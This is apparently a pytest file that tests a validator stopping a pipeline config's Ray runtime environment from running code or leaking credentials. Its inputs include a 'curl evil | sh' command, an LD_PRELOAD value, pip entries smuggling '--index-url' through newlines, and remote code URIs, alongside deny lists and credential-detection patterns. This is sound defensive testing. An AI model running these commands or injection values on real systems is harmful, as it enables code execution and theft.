"""What of Ray's runtime environment a config may hold."""

import pytest

from ray_pipeline.config import parse_config
from ray_pipeline.errors import UserError
from ray_pipeline.passwords import names_credential
from ray_pipeline.runtime_env import check_runtime_env, make_runtime_env


def config_with(runtime_env):
    return parse_config({"phases": [{"name": "one", "epochs": 1}], "ray": {"runtime_env": runtime_env}})


@pytest.mark.parametrize(
    ("fields", "said"),
    [
        ({"py_executable": "sh -c 'curl evil | sh'"}, "py_executable is a command"),
        ({"worker_process_setup_hook": "module.hook"}, "worker_process_setup_hook names code"),
        ({"conda": "base"}, "conda chooses another Python"),
        ({"container": {"image": "a", "run_options": ["--privileged"]}}, "container runs another image"),
        ({"image_uri": "docker.io/a"}, "image_uri runs another image"),
        ({"_nsight": "default"}, "_nsight is a command"),
        ({"env_var": {}}, "unknown field 'env_var'; known here are env_vars, pip"),
        ({"config": {"timeout": 3}}, r"unknown field config\.timeout"),
        ({"env_vars": ["A=1"]}, "env_vars is list, expected keys and values"),
        ({"env_vars": {"LD_PRELOAD": "/tmp/a.so"}}, "env_vars.LD_PRELOAD makes processes load other code"),
        ({"env_vars": {"A B": "1"}}, "no name of a variable"),
        ({"env_vars": {"OMP_NUM_THREADS": 4}}, "env_vars.OMP_NUM_THREADS is no text"),
    ],
)
def test_fields_that_run_code_and_wrong_ones_are_refused(fields, said):
    with pytest.raises(UserError, match=rf"ray\.runtime_env: .*{said}"):
        config_with(fields)


@pytest.mark.parametrize(
    "name",
    ["PATH", "PYTHONPATH", "PYTHONUSERBASE", "PYTHONWARNINGS", "LD_LIBRARY_PATH", "GIT_SSH_COMMAND", "GIT_SSH",
     "GIT_CONFIG_COUNT", "SSH_ASKPASS", "RAY_TRAIN_CALLBACKS", "RAY_START_HOOK", "CC", "PIP_INDEX_URL", "UV_INDEX",
     "NCCL_NET_PLUGIN", "NCCL_TUNER_PLUGIN", "NCCL_CONF_FILE", "NCCL_CUDA_PATH", "TORCH_NCCL_DEBUG_INFO_TEMP_FILE",
     "CUDA_INJECTION64_PATH", "OPENSSL_CONF", "TRITON_PTXAS_PATH", "TORCHINDUCTOR_CACHE_DIR", "OMP_TOOL_LIBRARIES",
     "AWS_CONFIG_FILE", "AWS_SHARED_CREDENTIALS_FILE", "AWS_ENDPOINT_URL_STS", "HF_ENDPOINT", "WANDB_BASE_URL",
     "HTTPS_PROXY", "omp_num_threads", "MY_OWN"],
)  # fmt: skip
def test_variables_by_which_a_config_could_choose_code_are_for_the_submitter(name):
    with pytest.raises(UserError, match=rf"ray\.runtime_env: .*env_vars\.{name} is none of.*submit --env"):
        config_with({"env_vars": {name: "/tmp/a"}})
    check_runtime_env({"env_vars": {name: "/tmp/a"}}, of_submitter=True)


@pytest.mark.parametrize(
    "packages",
    ["requirements.txt", ["https://host/x.whl"], ["a @ https://host/x.whl"], ["git+https://host/x.git"], ["./x"],
     ["/tmp/x.whl"], ["a", "--index-url=https://host"], ["-r other.txt"], ["a\n--index-url=https://host"],
     ["a===\n--index-url=https://host"], ["a=== --global-option=x"], ["a ==\n1"], ["a; extra == '\n-r x\n'"], [3],
     {"packages": ["a"], "pip_install_options": ["--index-url=https://host"]}],
)  # fmt: skip
@pytest.mark.parametrize("field", ["pip", "uv"])
def test_packages_by_more_than_their_names_are_for_the_submitter(field, packages):
    with pytest.raises(UserError, match=rf"ray\.runtime_env: .*{field} holds more than names.*submit --pip"):
        config_with({field: packages})
    check_runtime_env({field: packages}, of_submitter=True)


@pytest.mark.parametrize("field", ["pip", "uv"])
def test_packages_by_name_and_version_are_for_a_config(field):
    packages = ["my-hints", "my_hints==1.0", "a[x,y] >= 1.2, < 2", "b~=1.0"]
    assert config_with({field: packages}).ray.runtime_env == {field: packages}


@pytest.mark.parametrize("uri", ["https://evil/x.zip", "s3://bucket/x.zip", "gcs://x.zip", "file:///tmp/x.zip"])
@pytest.mark.parametrize("field", ["working_dir", "py_modules"])
def test_a_config_brings_no_code_from_elsewhere(field, uri):
    with pytest.raises(UserError, match=rf"ray\.runtime_env: .*{field} is a URI, whose code would run"):
        config_with({field: uri if field == "working_dir" else ["/home/me/module", uri]})


@pytest.mark.parametrize(
    "name",
    ["PYTHONUNBUFFERED", "PYTHONHASHSEED", "OMP_NUM_THREADS", "MKL_NUM_THREADS", "NCCL_DEBUG", "NCCL_SOCKET_IFNAME",
     "NCCL_IB_HCA", "TORCH_NCCL_ASYNC_ERROR_HANDLING", "GLOO_SOCKET_IFNAME", "CUDA_VISIBLE_DEVICES", "HF_HOME",
     "HF_HUB_OFFLINE", "PYTORCH_CUDA_ALLOC_CONF", "AWS_REGION", "AWS_DEFAULT_REGION", "AWS_ENDPOINT_URL",
     "AWS_ENDPOINT_URL_S3"],
)  # fmt: skip
def test_variables_that_choose_no_code_are_for_a_config(name):
    assert config_with({"env_vars": {name: "1"}}).ray.runtime_env == {"env_vars": {name: "1"}}


@pytest.mark.parametrize(
    "name",
    ["MYPASS", "DB_PASS", "DBPWD", "GITHUB_PAT", "AZURE_STORAGE_SAS", "PASSPHRASE", "AZURE_STORAGE_CONNECTION_STRING",
     "PGPASSWORD", "AZURE_STORAGE_KEY", "MY_ACCESSKEY", "GHTOKEN", "DbPassword", "WANDB_API_KEY", "HTTP_AUTH",
     "DB_PASSWORDS", "TOKENS", "GH_TOKENS", "MASTERKEY", "API_KEYS", "JWT", "SLACK_WEBHOOK_URL", "WEBHOOK_URI",
     "ConnectionString", "PASSWORD_FILE_KEY", "CLIENT_SECRETS"],
)  # fmt: skip
def test_a_variable_that_holds_a_credential_is_known_by_its_name(name):
    with pytest.raises(UserError, match=rf"env_vars\.{name} looks like a credential, which others") as refused:
        config_with({"env_vars": {name: "hunter2"}})
    assert "hunter2" not in str(refused.value)


@pytest.mark.parametrize(
    "name",
    ["TOKENIZERS_PARALLELISM", "MAX_TOKENS", "NCCL_BYPASS", "COMPASS", "MONKEY", "PATCH", "KEYS", "CONNECTION_TIMEOUT",
     "DB_PASSWORD_FILE", "AWS_SHARED_CREDENTIALS_FILE", "GIT_AUTHOR", "SASH",
     "GOOGLE_APPLICATION_CREDENTIALS", "AWS_CONTAINER_CREDENTIALS_RELATIVE_URI", "NUM_KEYS", "MAX_NEW_TOKENS"],
)  # fmt: skip
def test_names_that_only_resemble_a_credential_are_none(name):
    assert not names_credential(name)


@pytest.mark.parametrize(
    "value",
    ["DefaultEndpointsProtocol=https;AccountName=a;AccountKey=" + "hunter2" * 4, "AKIA" + "HUNTER2A" * 2,
     "ghp_" + "hunter2" * 5, "github_pat_" + "hunter2" * 5, "hf_" + "hunter2" * 5, "AIza" + "hunter2" * 5,
     "-----BEGIN RSA PRIVATE KEY-----hunter2", "https://host/a?sig=hunter2", "abfss://a@b/c?client_secret=hunter2"],
)  # fmt: skip
@pytest.mark.parametrize("place", ["variable", "package"])
def test_a_credential_is_known_by_its_form_wherever_it_stands(value, place):
    fields = {"env_vars": {"PLACE": value}} if place == "variable" else {"pip": ["a", f"--option={value}"]}
    with pytest.raises(UserError, match=r"holds a password or key, which others would read") as refused:
        config_with(fields)
    assert "hunter2" not in str(refused.value).lower()


@pytest.mark.parametrize(
    "fields",
    [
        {"env_vars": {"AWS_SECRET_ACCESS_KEY": "hunter2"}},
        {"env_vars": {"wandb_api_key": "hunter2"}},
        {"env_vars": {"HF_TOKEN": "hunter2"}},
        {"env_vars": {"DB": "postgres://me:hunter2@host/db"}},
        {"pip": ["git+https://hunter2@github.com/a/b"]},
        {"pip": {"packages": ["a"], "pip_install_options": ["--index-url=https://me:hunter2@host/simple"]}},
    ],
)
def test_credentials_are_refused_and_not_repeated(fields):
    with pytest.raises(UserError, match=r"which others would read") as refused:
        config_with(fields)
    assert "hunter2" not in str(refused.value)


def test_what_is_allowed_comes_through_as_it_is(tmp_path):
    variables = {"TOKENIZERS_PARALLELISM": "false", "AWS_REGION": "eu-west-1", "HF_HOME": "/hub"}
    fields = {"env_vars": variables, "pip": ["my-hints"], "config": {"setup_timeout_seconds": 60}}
    config = config_with(fields | {"working_dir": str(tmp_path)})
    assert parse_config(config.dump()).ray.runtime_env == fields | {"working_dir": str(tmp_path)}
    made = make_runtime_env(config.ray.runtime_env)
    assert made["env_vars"] == variables
    assert made["pip"]["packages"] == ["my-hints"]
    assert made["working_dir"] == str(tmp_path)
    assert make_runtime_env({}) is None


@pytest.mark.parametrize(
    ("fields", "said"),
    [({"working_dir": "/not/there"}, "/not/there is not a valid path"), ({"pip": ["a"], "uv": ["b"]}, "same time")],
)
def test_what_ray_refuses_is_refused_in_words(fields, said):
    with pytest.raises(UserError, match=rf"ray\.runtime_env is not what Ray takes .*{said}"):
        make_runtime_env(config_with(fields).ray.runtime_env)
